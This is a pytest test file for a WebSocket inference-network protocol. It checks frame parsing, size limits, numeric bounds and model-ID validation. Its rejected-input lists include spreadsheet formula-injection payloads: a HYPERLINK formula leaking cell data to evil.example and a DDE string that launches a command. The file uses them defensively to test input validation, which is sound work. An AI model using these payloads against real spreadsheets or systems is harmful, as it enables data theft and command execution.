"""WebSocket frames (docs/protocol.md "Frames"): every type parses, bad frames raise FrameError with a code."""

from __future__ import annotations

import json

import pytest

from darkbloom.wire.catalog import MAX_MODEL_ID
from darkbloom.wire.chunk_arrays import response_chunks
from darkbloom.wire.protocol import (
    MAX_REQUEST_FRAME_BYTES,
    MAX_FRAME_BYTES,
    AttestationChallenge,
    AttestationResponse,
    Cancel,
    Envelope,
    ErrorFrame,
    FrameError,
    Heartbeat,
    InferenceAccepted,
    InferenceComplete,
    InferenceError,
    InferenceRequest,
    InferenceResponseChunk,
    ModelInfo,
    Register,
    Registered,
    TrustStatus,
    dump,
    model_id_problem,
    parse_coordinator_frame,
    parse_provider_frame,
)

ENVELOPE = {"ephemeral_public_key": "AAAA", "ciphertext": "BBBB"}

REGISTER = {
    "type": "register", "auth_token": "dkp-x",
    "models": [{"id": "smollm2-135m", "size_bytes": 100, "weight_hash": "sha256:w", "quantization": "Q8_0",
                "is_vision": False, "context_length": 2048, "capabilities": ["tools", "structured_output"]}],
    "backend": "llama-cpp", "version": "0.1.0", "runtime_hash": "sha256:r", "public_key": "pk",
    "identity_key": "ik", "attestation": "att", "encrypted_response_chunks": True, "private_only": True,
    "max_concurrency": 3, "hardware": {"cpu_count": 8, "memory_gb": 16.0, "gpu": None, "device": "metal",
                                       "backend": "llama-cpp"}, "decode_tps": 42.5,
}

PROVIDER_FRAMES = [
    (REGISTER, Register),
    ({"type": "heartbeat", "status": "busy", "active_requests": 2, "models": ["a"]}, Heartbeat),
    ({"type": "inference_accepted", "request_id": "r1"}, InferenceAccepted),
    ({"type": "inference_response_chunk", "request_id": "r1", "encrypted_data": ENVELOPE}, InferenceResponseChunk),
    ({"type": "inference_complete", "request_id": "r1",
      "usage": {"prompt_tokens": 3, "completion_tokens": 4, "cached_tokens": 2}}, InferenceComplete),
    ({"type": "inference_error", "request_id": "r1", "status_code": 503, "message": "oom"}, InferenceError),
    ({"type": "inference_error", "request_id": "r1", "status_code": 400, "message": "too long", "param": "messages",
      "code": "context_length_exceeded"}, InferenceError),
    ({"type": "attestation_response", "nonce": "n", "signature": "s", "runtime_hash": "h"}, AttestationResponse),
]

COORDINATOR_FRAMES = [
    ({"type": "registered", "provider_id": "prov_1", "account_id": "acct_1", "trust_level": "self_signed"},
     Registered),
    ({"type": "inference_request", "request_id": "r1", "encrypted_body": ENVELOPE}, InferenceRequest),
    ({"type": "inference_request", "request_id": "r1", "encrypted_body": ENVELOPE, "api": "embeddings"},
     InferenceRequest),
    ({"type": "cancel", "request_id": "r1"}, Cancel),
    ({"type": "attestation_challenge", "nonce": "n", "timestamp": 1_800_000_000}, AttestationChallenge),
    ({"type": "trust_status", "trust_level": "none", "reason": "stale"}, TrustStatus),
    ({"type": "error", "code": "unknown_type", "message": "?"}, ErrorFrame),
]


@pytest.mark.parametrize("data, cls", PROVIDER_FRAMES, ids=[f[0]["type"] for f in PROVIDER_FRAMES])
def test_each_provider_frame_parses(data: dict, cls: type) -> None:
    frame = parse_provider_frame(json.dumps(data))
    assert type(frame) is cls
    for key, value in data.items():
        got = getattr(frame, key)
        if hasattr(got, "model_dump"):
            got = got.model_dump()
        elif isinstance(got, list):
            got = [g.model_dump() if hasattr(g, "model_dump") else g for g in got]
        assert got == value, key
    assert parse_provider_frame(dump(frame)) == frame  # dump → parse roundtrip
    assert parse_provider_frame(json.dumps(data).encode()) == frame  # bytes too


@pytest.mark.parametrize("data, cls", COORDINATOR_FRAMES, ids=[f[0]["type"] for f in COORDINATOR_FRAMES])
def test_each_coordinator_frame_parses(data: dict, cls: type) -> None:
    frame = parse_coordinator_frame(json.dumps(data))
    assert type(frame) is cls
    for key, value in data.items():
        got = getattr(frame, key)
        assert (got.model_dump() if hasattr(got, "model_dump") else got) == value, key
    assert parse_coordinator_frame(dump(frame)) == frame


def test_register_defaults_and_extra_fields() -> None:
    frame = parse_provider_frame(json.dumps({"type": "register", "models": [{"id": "m"}], "public_key": "pk",
                                             "future_field": {"x": 1}}))
    assert isinstance(frame, Register)
    assert frame.auth_token is None and frame.private_only is False and frame.max_concurrency == 1
    assert frame.encrypted_response_chunks is True
    assert frame.models == [ModelInfo(id="m")]
    assert not hasattr(frame, "future_field")


def test_frames_built_in_code_carry_their_type() -> None:
    frame = InferenceRequest(request_id="r", encrypted_body=Envelope(**ENVELOPE))
    assert json.loads(dump(frame))["type"] == "inference_request"
    assert json.loads(dump(Registered(provider_id="prov_1")))["account_id"] is None


@pytest.mark.parametrize("parse", [parse_provider_frame, parse_coordinator_frame])
@pytest.mark.parametrize("type_", ["bogus", "REGISTER", ""])
def test_unknown_type(parse, type_: str) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(FrameError) as caught:
        parse(json.dumps({"type": type_}))
    assert caught.value.code == "unknown_type"


@pytest.mark.parametrize("data", [d for d, _ in COORDINATOR_FRAMES])
def test_coordinator_frames_are_unknown_to_the_provider_parser(data: dict) -> None:
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(json.dumps(data))
    assert caught.value.code == "unknown_type"


@pytest.mark.parametrize("data", [d for d, _ in PROVIDER_FRAMES])
def test_provider_frames_are_unknown_to_the_coordinator_parser(data: dict) -> None:
    with pytest.raises(FrameError) as caught:
        parse_coordinator_frame(json.dumps(data))
    assert caught.value.code == "unknown_type"


@pytest.mark.parametrize("parse,limit", [(parse_provider_frame, MAX_FRAME_BYTES),
                                         (parse_coordinator_frame, MAX_REQUEST_FRAME_BYTES)])
def test_oversized_frame(parse, limit: int) -> None:  # type: ignore[no-untyped-def]
    raw = json.dumps({"type": "heartbeat", "status": "x" * limit})
    assert len(raw) > limit
    with pytest.raises(FrameError) as caught:
        parse(raw)
    assert caught.value.code == "frame_too_large"
    with pytest.raises(FrameError) as caught:
        parse(raw.encode())
    assert caught.value.code == "frame_too_large"


def test_frame_at_the_limit_is_not_too_large() -> None:
    prefix = '{"type":"heartbeat","status":"'
    raw = prefix + "x" * (MAX_FRAME_BYTES - len(prefix) - 2) + '"}'
    assert len(raw) == MAX_FRAME_BYTES
    assert isinstance(parse_provider_frame(raw), Heartbeat)


@pytest.mark.parametrize("parse", [parse_provider_frame, parse_coordinator_frame])
@pytest.mark.parametrize("raw", ["{not json", "", "[1, 2]", '"heartbeat"', "null", '{"no_type": 1}',
                                 '{"type": 5}', b"\xff\xfe"])
def test_malformed_frame(parse, raw: str | bytes) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(FrameError) as caught:
        parse(raw)
    assert caught.value.code == "malformed_frame"


@pytest.mark.parametrize("data", [
    {"type": "register", "public_key": "pk"},                                   # models missing
    {"type": "register", "models": [{"id": "m"}]},                              # public_key missing
    {"type": "register", "models": [{"id": "m"}], "public_key": "pk", "max_concurrency": 0},
    {"type": "inference_accepted"},
    {"type": "inference_response_chunk", "request_id": "r", "encrypted_data": {"ciphertext": "x"}},
    {"type": "inference_complete", "request_id": "r", "usage": {"prompt_tokens": -1, "completion_tokens": 0}},
    {"type": "inference_complete", "request_id": "r"},
    {"type": "attestation_response", "nonce": "n"},
])
def test_known_type_with_bad_fields_is_malformed(data: dict) -> None:
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(json.dumps(data))
    assert caught.value.code == "malformed_frame"
    assert caught.value.message


def _complete(**usage: object) -> str:
    return json.dumps({"type": "inference_complete", "request_id": "r",
                       "usage": {"prompt_tokens": 5, "completion_tokens": 1, **usage}})


def test_an_older_nodes_usage_without_cached_tokens_reads_as_none_cached() -> None:
    frame = parse_provider_frame(_complete())
    assert (frame.usage.prompt_tokens, frame.usage.cached_tokens) == (5, 0)
    assert json.loads(dump(frame))["usage"]["cached_tokens"] == 0  # what the coordinator passes on (NATS)


@pytest.mark.parametrize("cached", [0, 1, 5])
def test_cached_tokens_from_none_to_every_prompt_token_are_accepted(cached: int) -> None:
    assert parse_provider_frame(_complete(cached_tokens=cached)).usage.cached_tokens == cached


@pytest.mark.parametrize("cached, where", [(-1, "cached_tokens"), (6, "cached_tokens cannot exceed prompt_tokens"),
                                           (2**70, "cached_tokens"), (1.5, "cached_tokens"), (None, "cached_tokens")])
def test_cached_tokens_outside_the_prompt_make_a_bad_frame(cached: object, where: str) -> None:
    for raw in (_complete(cached_tokens=cached), _complete(cached_tokens=cached).encode()):
        with pytest.raises(FrameError) as caught:
            parse_provider_frame(raw)
        assert caught.value.code == "malformed_frame" and where in caught.value.message


def test_usage_refuses_more_cached_than_prompt_tokens_in_code_too() -> None:
    from pydantic import ValidationError

    from darkbloom.wire.protocol import Usage

    assert Usage(prompt_tokens=3, completion_tokens=0).cached_tokens == 0
    with pytest.raises(ValidationError):
        Usage(prompt_tokens=3, completion_tokens=0, cached_tokens=4)


MODEL = {"id": "smollm2-135m"}


@pytest.mark.parametrize("fields, where", [
    ({"models": [{**MODEL, "size_bytes": 10 ** 400}]}, "models.0.size_bytes"),
    ({"models": [{**MODEL, "size_bytes": 2 ** 50 + 1}]}, "models.0.size_bytes"),
    ({"models": [MODEL, {"id": "other", "size_bytes": -1}]}, "models.1.size_bytes"),
    ({"models": [{**MODEL, "context_length": 2 ** 24 + 1}]}, "models.0.context_length"),
    ({"models": [{**MODEL, "context_length": -1}]}, "models.0.context_length"),
    ({"decode_tps": float("inf")}, "decode_tps"),
    ({"decode_tps": float("nan")}, "decode_tps"),
    ({"decode_tps": 1e7}, "decode_tps"),
    ({"decode_tps": -1.0}, "decode_tps"),
    ({"max_concurrency": 1025}, "max_concurrency"),
    ({"max_request_frame_bytes": 2 ** 41}, "max_request_frame_bytes"),
    ({"hardware": {"cpu_count": 2 ** 17}}, "hardware.cpu_count"),
    ({"hardware": {"memory_gb": float("nan")}}, "hardware.memory_gb"),
    ({"hardware": {"memory_gb": 2.0 ** 31}}, "hardware.memory_gb"),
    ({"hardware": {"memory_gb": -1}}, "hardware.memory_gb"),
    ({"hardware": {"device": "=HYPERLINK(\"http://evil.example/\")"}}, "hardware.device"),
    ({"hardware": {"device": "CUDA"}}, "hardware.device"),
    ({"hardware": {"device": "c" * 33}}, "hardware.device"),
    ({"hardware": {"device": ""}}, "hardware.device"),
    ({"hardware": {"device": 3}}, "hardware.device"),
    ({"hardware": {"backend": "llama cpp"}}, "hardware.backend"),
    ({"hardware": {"backend": "-openai"}}, "hardware.backend"),
])
def test_a_registration_reporting_a_number_out_of_bounds_is_refused_naming_it(fields: dict, where: str) -> None:
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(json.dumps({**REGISTER, **fields}))
    assert caught.value.code == "malformed_frame" and caught.value.frame_type == "register"
    assert caught.value.message.startswith(f"invalid frame: register.{where}: ")


def test_a_number_json_can_only_write_as_infinity_is_refused() -> None:
    raw = json.dumps(REGISTER).replace('"decode_tps": 42.5', '"decode_tps": 1e400')
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(raw)
    assert caught.value.message == "invalid frame: register.decode_tps: Input should be a finite number"


def test_the_bounds_admit_what_a_real_node_reports() -> None:
    frame = parse_provider_frame(json.dumps({
        **REGISTER, "models": [{**MODEL, "size_bytes": 2 ** 50, "context_length": 2 ** 24}], "decode_tps": 1e6,
        "max_concurrency": 1024, "hardware": {"cpu_count": 512, "memory_gb": 2048.0, "gpu": "H100"}}))
    assert isinstance(frame, Register) and frame.models[0].size_bytes == 2 ** 50


@pytest.mark.parametrize("device, backend", [("cpu", "llama-cpp"), ("metal", "llama-cpp"), ("cuda", "llama-cpp"),
                                             ("rocm", "llama-cpp"), (None, "openai"), (None, None),
                                             ("c" * 32, "a.b_c-9")])
def test_a_registration_says_where_it_runs_its_models(device: str | None, backend: str | None) -> None:
    frame = parse_provider_frame(json.dumps({**REGISTER, "hardware": {"cpu_count": 8, "device": device,
                                                                      "backend": backend}}))
    assert isinstance(frame, Register) and (frame.hardware.device, frame.hardware.backend) == (device, backend)
    older = parse_provider_frame(json.dumps({**REGISTER, "hardware": {"cpu_count": 8, "memory_gb": 16.0}}))
    assert (older.hardware.device, older.hardware.backend) == (None, None)  # an older node's: unknown


@pytest.mark.parametrize("active", [-1, 2 ** 20 + 1, 10 ** 400])
def test_a_heartbeat_out_of_bounds_is_malformed(active: int) -> None:
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(json.dumps({"type": "heartbeat", "active_requests": active}))
    assert caught.value.code == "malformed_frame" and caught.value.frame_type == "heartbeat"
    assert "heartbeat.active_requests" in caught.value.message


VALID_IDS = ["smollm2-135m", "owner/name", "qwen2.5:0.5b", "Qwen/Qwen2.5-0.5B-Instruct-GGUF", "llama3.2:1b",
             "a", "M_1", "m" * MAX_MODEL_ID]
INVALID_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
               "", " smollm2", "smollm2-135m ", "two words", "tab\tid", "line\nbreak", "naïve", "a,b", "a;b",
               "-leading-dash", ".hidden", "/absolute", ":tag", "_under", "m" * (MAX_MODEL_ID + 1)]


@pytest.mark.parametrize("model_id", VALID_IDS)
def test_a_model_id_of_the_advertised_set_registers(model_id: str) -> None:
    frame = parse_provider_frame(json.dumps({**REGISTER, "models": [{"id": model_id}]}))
    assert frame.models[0].id == model_id and model_id_problem(model_id) is None


@pytest.mark.parametrize("model_id", INVALID_IDS)
def test_a_model_id_outside_the_advertised_set_is_refused_naming_it(model_id: str) -> None:
    with pytest.raises(FrameError) as caught:
        parse_provider_frame(json.dumps({**REGISTER, "models": [MODEL, {"id": model_id}]}))
    assert caught.value.message.startswith("invalid frame: register.models.1.id: ")
    assert model_id_problem(model_id) is not None


def test_coordinator_frame_with_bad_fields_is_malformed() -> None:
    with pytest.raises(FrameError) as caught:
        parse_coordinator_frame(json.dumps({"type": "attestation_challenge", "nonce": "n"}))
    assert caught.value.code == "malformed_frame"


def test_a_sealed_request_of_an_8_mib_body_fits_the_nodes_frame_limit() -> None:
    """The node accepts from the coordinator what an 8 MiB body becomes once sealed (issue 12, defect 1)."""
    from nacl.public import PrivateKey

    from darkbloom.wire.crypto import ReplyKey
    from darkbloom.wire.protocol import MAX_REQUEST_FRAME_BYTES, InferenceRequest, dump, parse_coordinator_frame

    body = b"x" * (8 * 1024 * 1024)
    envelope = ReplyKey().seal_request(body, PrivateKey.generate().public_key)
    frame = dump(InferenceRequest(request_id="chatcmpl-" + "a" * 24, encrypted_body=envelope))
    assert MAX_FRAME_BYTES < len(frame) <= MAX_REQUEST_FRAME_BYTES
    assert parse_coordinator_frame(frame).request_id.startswith("chatcmpl-")
    with pytest.raises(FrameError):
        parse_coordinator_frame('{"type":"cancel","request_id":"' + "x" * MAX_REQUEST_FRAME_BYTES + '"}')


@pytest.mark.parametrize("plaintext, count", [
    (b'{"id": "c"}', 1), (b'[{"id": "a"}, {"id": "b"}]', 2),
    # what orjson refuses and stdlib json takes opens as it always did
    (b'{"id": "c", "x": NaN}', 1), (b'[{"text": "\\ud800"}]', 1), (b'\xef\xbb\xbf{"id": "c"}', 1),
])
def test_a_response_chunk_carries_one_chunk_or_an_array_of_them(plaintext: bytes, count: int) -> None:
    assert len(response_chunks(plaintext)) == count


@pytest.mark.parametrize("plaintext", [b"[]", b'[{"id": "a"}, 3]', b'"text"', b"7", b"[[{}]]", b"null", b"{"])
def test_a_response_chunk_that_is_no_chunk_is_refused(plaintext: bytes) -> None:
    with pytest.raises(ValueError):
        response_chunks(plaintext)
